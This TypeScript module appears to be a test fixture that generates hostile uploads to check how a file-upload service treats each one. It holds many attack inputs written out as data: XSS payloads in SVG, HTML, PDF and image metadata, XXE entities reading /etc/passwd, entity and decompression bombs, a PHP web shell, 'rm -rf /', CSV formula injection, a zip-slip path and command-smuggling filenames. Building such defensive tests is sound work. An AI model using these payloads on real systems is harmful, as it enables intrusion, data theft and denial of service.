import { crc32, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
import sharp from 'sharp';
import { docx } from '#db/seeds/seeding/samples/docx.ts';
import { pdf } from '#db/seeds/seeding/samples/pdf.ts';
import { wav } from '#db/seeds/seeding/samples/wav.ts';

export type Hostile = { what: string; fileName: string; type?: string; bytes: Buffer; becomes?: Outcome };

/** The expected result of an upload; `drawn` means re-encoded. Absent where several are acceptable. */
export type Outcome = 'refused' | 'download' | 'shown' | 'drawn';

/** The script of the attacker; no content that a browser would run may contain it. */
export const payload = 'alert(document.domain)';

/** Returns the known kinds of hostile uploads. All are generated here; nothing is downloaded. */
export async function hostileFiles(listener: string): Promise<Hostile[]> {
  return [
    ...markup(listener),
    ...programs(),
    ...documents(listener),
    ...(await pictures()),
    ...bombs(),
    ...named(),
    ...(await damaged()),
  ];
}

const script = `<script>${payload}</script>`;
const ascii = (text: string) => Buffer.from(text, 'latin1');
const wide = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');

/** File names and media types that a hostile file may claim. */
const disguises = [
  { fileName: 'drawing.svg', type: 'image/svg+xml' },
  { fileName: 'photo.jpg', type: 'image/jpeg' },
  { fileName: 'notes.txt', type: 'text/plain' },
  { fileName: 'report.pdf', type: 'application/pdf' },
  { fileName: 'page.html', type: 'text/html' },
];

function markup(listener: string): Hostile[] {
  const svg = (inside: string) =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`;
  const texts: [string, Buffer, Outcome?][] = [
    ['a drawing with a script', ascii(svg(script))],
    ['a drawing that runs when loaded', ascii(svg('').replace('<svg', `<svg onload="${payload}"`))],
    [
      'a drawing with a page in it',
      ascii(svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${script}</body></foreignObject>`)),
    ],
    ['a drawing from elsewhere', ascii(svg(`<image xlink:href="${listener}/svg"/><use href="${listener}/use#x"/>`))],
    [
      'a drawing with an entity from elsewhere',
      ascii(`<!DOCTYPE svg [<!ENTITY x SYSTEM "${listener}/dtd">]>${svg('&x;')}`),
    ],
    [
      'a drawing with a local file in it',
      ascii(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`),
    ],
    ['a drawing after a comment', ascii(`<!-- ${'x'.repeat(5_000)} -->${svg(script)}`)],
    ['a drawing with a byte order mark', Buffer.from(`\ufeff${svg(script)}`)],
    ['a drawing in wide letters', wide(svg(script))],
    ['a drawing in wide letters, the other way', wide(svg(script)).swap16()],
    [
      'a drawing with a prefix',
      ascii(`<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>${payload}</s:script></s:svg>`),
    ],
    ['a packed drawing', gzipSync(svg(script))],
    ['a page', ascii(`<!doctype html><html><body>${script}`)],
    ['a page after blanks', ascii(`${' \n'.repeat(4_000)}<html>${script}`)],
    ['a page after a text', ascii(`Dear all,\n\n${'x'.repeat(20_000)}${script}`)],
    ['a page in capitals', ascii(`<HTML><BODY ONLOAD="${payload}">`)],
    ['a page with a picture that fails', ascii(`<img src=x onerror="${payload}">`)],
    ['a frame', ascii(`<iframe src="javascript:${payload}"></iframe>`)],
    ['a page that leads elsewhere', ascii(`<meta http-equiv="refresh" content="0;url=${listener}/meta">`)],
    ['a form', ascii(`<form action="${listener}/form"><input name="password">`)],
    ['a page in wide letters', wide(`<html>${script}`)],
    ['a page in seven bits', ascii(`+ADw-script+AD4-${payload}+ADw-/script+AD4-`), 'shown'],
    ['a page in a letter', ascii(`MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html>${script}`)],
    ['a page as an application', ascii(`<html><hta:application/>${script}`)],
    ['XHTML', ascii(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`)],
    [
      'XML with a stylesheet from elsewhere',
      ascii(`<?xml version="1.0"?><?xml-stylesheet href="${listener}/xsl" type="text/xsl"?><a/>`),
    ],
    [
      'XML with an entity from elsewhere',
      ascii(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % x SYSTEM "${listener}/xxe">%x;]><a/>`),
    ],
    ['XML that grows', ascii(laughs())],
    ['formulas', ascii(`<math><maction actiontype="statusline" xlink:href="javascript:${payload}">x</maction></math>`)],
  ];
  return texts.map(([what, bytes, becomes = 'download'], at) => {
    return { what, bytes, ...disguises[at % disguises.length]!, becomes };
  });
}

function laughs() {
  const lines = Array.from({ length: 9 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`);
  return `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ha">${lines.join('')}]><a>&a9;</a>`;
}

function programs(): Hostile[] {
  const hex = (text: string, more = 200) => Buffer.concat([Buffer.from(text, 'hex'), Buffer.alloc(more)]);
  const programs: [string, string, Buffer, Outcome?][] = [
    ['a Windows program', 'invoice.pdf.exe', hex('4d5a900003000000')],
    ['a Windows program said to be a picture', 'photo.jpg', hex('4d5a900003000000')],
    ['a Linux program', 'photo.png', hex('7f454c4602010100')],
    ['a Mac program', 'run', hex('cffaedfe07000001')],
    ['Java', 'x.class', hex('cafebabe00000034')],
    ['WebAssembly', 'x.wasm', hex('0061736d01000000')],
    ['Flash', 'film.swf', hex('4357530a00000000')],
    ['a browser extension', 'x.crx', hex('4372323403000000')],
    ['a shortcut', 'report.lnk', hex('4c0000000114020000000000c000000000000046')],
    ['an installer', 'setup.msi', hex('d0cf11e0a1b11ae1', 2_000)],
    ['a shell script', 'run.sh', ascii('#!/bin/sh\nrm -rf /\n'), 'shown'],
    ['a batch file', 'run.bat', ascii('@echo off\r\ndel /s *\r\n'), 'shown'],
    ['PowerShell', 'run.ps1', ascii('Invoke-Expression (New-Object Net.WebClient)'), 'shown'],
    ['JavaScript', 'x.js', ascii(payload), 'shown'],
    ['PHP', 'shell.php', ascii('<?php system($_GET["c"]); ?>'), 'shown'],
    ['a template', 'x.txt', ascii('{{7*7}} <%= 7*7 %> #{7*7}'), 'shown'],
    ['settings of a server', '.htaccess', ascii('AddType application/x-httpd-php .jpg'), 'shown'],
    [
      'ImageMagick’s own language',
      'photo.png',
      ascii('push graphic-context\nfill \'url(https://127.0.0.1/x.jpg"|ls "-la)\'\n'),
      'shown',
    ],
    ['a sheet with formulas', 'list.csv', ascii("=cmd|' /C calc'!A0,@SUM(1+1)\n"), 'shown'],
    ['PostScript', 'photo.eps', ascii('%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file\n')],
  ];
  return programs.map(([what, fileName, bytes, becomes = 'download']) => ({ what, fileName, bytes, becomes }));
}

function documents(listener: string): Hostile[] {
  const letter = docx('Letter', `See ${listener}/docx`);
  const print = pdf('Print', `See ${listener}/pdf`);
  const files: [string, string, Buffer, Outcome?][] = [
    ['a letter that speaks of another address', 'letter.docx', letter],
    ['a letter said to be a picture', 'letter.png', letter],
    ['a letter with macros', 'letter.docm', Buffer.concat([letter, ascii('vbaProject.bin')])],
    [
      'rich text with an object',
      'letter.rtf',
      ascii(`{\\rtf1{\\object\\objautlink{\\*\\objclass Word}${listener}/rtf}}`),
    ],
    [
      'a print with a script',
      'print.pdf',
      Buffer.concat([print, ascii(`\n/OpenAction<</S/JavaScript/JS(${payload})>>`)]),
      'shown',
    ],
    ['a print that starts a program', 'print.pdf', Buffer.concat([print, ascii('\n/Launch/F(cmd.exe)')]), 'shown'],
    ['a print that is a page too', 'print.pdf', Buffer.concat([ascii(`<html>${script}`), print])],
    ['a print that is an archive too', 'print.pdf', Buffer.concat([print, zip('x.txt')]), 'shown'],
    ['a print in name only', 'print.pdf', ascii('no print at all'), 'shown'],
    ['a sound', 'call.wav', wav(1), 'shown'],
    ['a sound with a page behind it', 'call.wav', Buffer.concat([wav(1), ascii(script)]), 'shown'],
    ['a list of songs from elsewhere', 'songs.m3u', ascii(`#EXTM3U\n${listener}/m3u\n`), 'shown'],
    ['an address to go to', 'link.url', ascii(`[InternetShortcut]\nURL=${listener}/url\n`), 'shown'],
    ['an appointment', 'x.ics', ascii(`BEGIN:VCALENDAR\nATTACH:${listener}/ics\nEND:VCALENDAR\n`)],
    ['a film in name only', 'film.mp4', ascii(`\0\0\0\x18ftypisom\0\0\x02\0isomiso2${script}`), 'shown'],
  ];
  return files.map(([what, fileName, bytes, becomes = 'download']) => ({ what, fileName, bytes, becomes }));
}

async function pictures(): Promise<Hostile[]> {
  const photo = sharp({ create: { width: 64, height: 48, channels: 3, background: '#446688' } }).withExif({
    IFD0: { Make: payload, Artist: script },
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '49/1 16/1 0/1' },
  });
  const [jpeg, png, webp, avif, gif] = await Promise.all(
    (['jpeg', 'png', 'webp', 'avif', 'gif'] as const).map((format) => photo.clone().toFormat(format).toBuffer()),
  );
  const tail = ascii(`${script}${payload}`);
  const files: [string, string, Buffer, Outcome][] = [
    ['a JPEG that says where it was taken', 'photo.jpg', jpeg!, 'drawn'],
    ['a PNG that says where it was taken', 'photo.png', png!, 'drawn'],
    ['a WebP that says where it was taken', 'photo.webp', webp!, 'drawn'],
    ['an AVIF that says where it was taken', 'photo.avif', avif!, 'drawn'],
    ['a JPEG called a page', 'photo.html', jpeg!, 'drawn'],
    [
      'a JPEG with a comment',
      'photo.jpg',
      inserted(jpeg!, 2, Buffer.concat([Buffer.from('fffe', 'hex'), length16(tail), tail])),
      'drawn',
    ],
    ['a JPEG with a page behind it', 'photo.jpg', Buffer.concat([jpeg!, ascii(`<html>${script}`)]), 'drawn'],
    ['a JPEG with an archive behind it', 'photo.jpg', Buffer.concat([jpeg!, zip('x.class')]), 'drawn'],
    ['a PNG with a text in it', 'photo.png', withChunk(png!, 'tEXt', ascii(`Comment\0${script}`)), 'drawn'],
    ['a PNG with a page behind it', 'photo.png', Buffer.concat([png!, ascii(script)]), 'drawn'],
    [
      'a PNG with a packed text that grows',
      'photo.png',
      withChunk(png!, 'zTXt', Buffer.concat([ascii('Comment\0\0'), deflateSync(Buffer.alloc(50_000_000))])),
      'drawn',
    ],
    ['a WebP with a page behind it', 'photo.webp', Buffer.concat([webp!, ascii(script)]), 'drawn'],
    [
      'a picture in four colours',
      'print.jpg',
      await sharp({ create: { width: 9, height: 9, channels: 4, background: '#123' } })
        .toColourspace('cmyk')
        .jpeg()
        .toBuffer(),
      'drawn',
    ],
    ['a GIF', 'photo.gif', gif!, 'shown'],
    ['a GIF that is a script too', 'photo.gif', ascii(`GIF89a/*${'\0'.repeat(8)}*/=1;${payload}//`), 'shown'],
    ['a TIFF', 'scan.tiff', Buffer.concat([Buffer.from('49492a0008000000', 'hex'), Buffer.alloc(500)]), 'download'],
    ['a bitmap', 'scan.bmp', Buffer.concat([ascii('BM'), Buffer.alloc(300)]), 'download'],
    ['Photoshop', 'x.psd', Buffer.concat([ascii('8BPS'), Buffer.alloc(300)]), 'download'],
    ['an icon', 'x.ico', Buffer.concat([Buffer.from('00000100', 'hex'), Buffer.alloc(300)]), 'download'],
    [
      'a picture of a newer kind',
      'x.jxl',
      Buffer.concat([Buffer.from('0000000c4a584c200d0a870a', 'hex'), Buffer.alloc(300)]),
      'download',
    ],
    [
      'a picture of another kind',
      'x.jp2',
      Buffer.concat([Buffer.from('0000000c6a5020200d0a870a00000014667479706a703220', 'hex'), Buffer.alloc(300)]),
      'download',
    ],
    [
      'a picture of a telephone',
      'x.heic',
      Buffer.concat([ascii('\0\0\0\x18ftypheic\0\0\0\0mif1heic'), Buffer.alloc(300)]),
      'download',
    ],
  ];
  return files.map(([what, fileName, bytes, becomes]) => ({ what, fileName, bytes, becomes }));
}

/** Small files that claim many pixels, or decompress to many bytes. */
export function bombs(): Hostile[] {
  const refused: [string, string, Buffer][] = [
    ['a PNG of 2,500 million pixels', 'photo.png', hugePng(50_000, 50_000)],
    ['a PNG of one line', 'photo.png', hugePng(1_000_000, 51)],
    ['a PNG whose pixels are there', 'photo.png', hugePng(20_000, 20_000, deflateSync(Buffer.alloc(50_000_000)))],
    ['a JPEG of 4,000 million pixels', 'photo.jpg', hugeJpeg()],
  ];
  const kept: [string, string, Buffer, Outcome][] = [
    ['a PNG without size', 'photo.png', hugePng(0, 0), 'download'],
    ['a WebP of 268 million pixels without any', 'photo.webp', hugeWebp(), 'download'],
    [
      'a GIF of 4,000 million pixels',
      'photo.gif',
      Buffer.concat([ascii('GIF89a'), Buffer.from('ffffffff800000', 'hex'), Buffer.alloc(99)]),
      'shown',
    ],
    ['an archive of zeros', 'zeros.zip', zip('zeros', deflateSync(Buffer.alloc(50_000_000))), 'download'],
    ['an archive that leads out of its folder', 'x.zip', zip('../../../../etc/cron.d/x'), 'download'],
    ['packed zeros', 'zeros.gz', gzipSync(Buffer.alloc(50_000_000)), 'download'],
    ['packed and packed again', 'zeros.gz', gzipSync(gzipSync(gzipSync(Buffer.alloc(50_000_000)))), 'download'],
    ['zeros packed in another way', 'zeros.zst', zstdCompressSync(Buffer.alloc(50_000_000)), 'download'],
    ['an archive cut short', 'x.rar', Buffer.from('526172211a0700', 'hex'), 'download'],
  ];
  return [
    ...refused.map(([what, fileName, bytes]): Hostile => ({ what, fileName, bytes, becomes: 'refused' })),
    ...kept.map(([what, fileName, bytes, becomes]): Hostile => ({ what, fileName, bytes, becomes })),
  ];
}

function named(): Hostile[] {
  const names = [
    ...['../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '/etc/shadow', 'C:\\boot.ini', '\\\\evil\\share\\x'],
    ...[
      '....//....//x',
      '%2e%2e%2fx',
      '..%c0%afx',
      '.',
      '..',
      '...',
      ' ',
      '/',
      '.htaccess',
      'CON',
      'nul.txt',
      'x.txt.',
    ],
    ...[
      'a\0b.txt',
      'photo\u202egpj.exe',
      'a\u200b\u2066b\u2069.txt',
      'a\u2028b',
      'x\r\nSet-Cookie: a=b',
      'a;b="c".txt',
    ],
    ...[
      "'; drop table attachment; --",
      '<img src=x onerror=alert(1)>',
      '$(id).txt',
      '`id`',
      '|id',
      '-rf',
      '~',
      '#',
      '?x=1',
    ],
    ...[
      'x'.repeat(300),
      `${'é'.repeat(300)}.txt`,
      '😀'.repeat(200),
      'файл.txt',
      'ملف.txt',
      'e\u0301'.repeat(150),
      '\ud800',
    ],
  ];
  return names.map((fileName) => ({
    what: `a file named ${fileName.slice(0, 40)}`,
    fileName,
    bytes: ascii('x'),
    becomes: 'shown',
  }));
}

/** Returns valid pictures with damaged bytes, the same ones on each run. */
async function damaged(): Promise<Hostile[]> {
  const noise = { type: 'gaussian', mean: 128, sigma: 40 } as const;
  const photo = sharp({ create: { width: 64, height: 48, channels: 3, background: '#446688', noise } });
  const formats = ['jpeg', 'png', 'webp', 'avif'] as const;
  const files = await Promise.all(
    formats.map(async (format) => {
      const bytes = await photo.clone().toFormat(format).toBuffer();
      const fileName = `photo.${format}`;
      const cut = [0.02, 0.3, 0.9].map((part) => bytes.subarray(0, Math.max(16, bytes.length * part)));
      const wrong = Array.from({ length: 8 }, (_, seed) => withMistakes(bytes, seed + 1));
      return [...cut, ...wrong].map((bytes, at) => ({ what: `a damaged ${format}, ${at}`, fileName, bytes }));
    }),
  );
  const nothing: Hostile[] = [
    { what: 'nothing', fileName: 'photo.png', bytes: Buffer.alloc(0), becomes: 'refused' },
    { what: 'one byte', fileName: 'photo.png', bytes: Buffer.alloc(1), becomes: 'download' },
    { what: 'zeros', fileName: 'photo.png', bytes: Buffer.alloc(100_000), becomes: 'download' },
  ];
  return [...files.flat(), ...nothing];
}

function withMistakes(bytes: Buffer, seed: number) {
  const damaged = Buffer.from(bytes);
  let state = seed * 2_654_435_761;
  for (let mistakes = 0; mistakes < 5; mistakes++) {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
    damaged[16 + (state % (bytes.length - 16))] = state % 251;
  }
  return damaged;
}

function chunk(type: string, content: Buffer) {
  const named = Buffer.concat([ascii(type), content]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(content.length, 0);
  frame.writeUInt32BE(crc32(named), 4);
  return Buffer.concat([frame.subarray(0, 4), named, frame.subarray(4)]);
}

function hugePng(width: number, height: number, pixels = deflateSync(Buffer.alloc(1_000))) {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1;
  const signature = Buffer.from('89504e470d0a1a0a', 'hex');
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
}

function withChunk(png: Buffer, type: string, content: Buffer) {
  return inserted(png, 33, chunk(type, content));
}

function hugeJpeg() {
  const frame = 'ffd8ffe000104a46494600010100000100010000ffc0001108ffdcffdc03011100021101031101';
  return Buffer.concat([
    Buffer.from(frame, 'hex'),
    Buffer.from('ffda000c03010002110311003f00', 'hex'),
    Buffer.alloc(500),
    Buffer.from('ffd9', 'hex'),
  ]);
}

function hugeWebp() {
  const body = Buffer.concat([
    ascii('WEBPVP8L'),
    Buffer.from('20000000', 'hex'),
    Buffer.from('2fffffffff', 'hex'),
    Buffer.alloc(27),
  ]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(body.length);
  return Buffer.concat([ascii('RIFF'), size, body]);
}

function zip(name: string, content = ascii('x')) {
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt32LE(content.length, 18);
  header.writeUInt32LE(50_000_000, 22);
  header.writeUInt16LE(name.length, 26);
  return Buffer.concat([header, ascii(name), content]);
}

function inserted(bytes: Buffer, at: number, more: Buffer) {
  return Buffer.concat([bytes.subarray(0, at), more, bytes.subarray(at)]);
}

function length16(content: Buffer) {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(content.length + 2);
  return length;
}
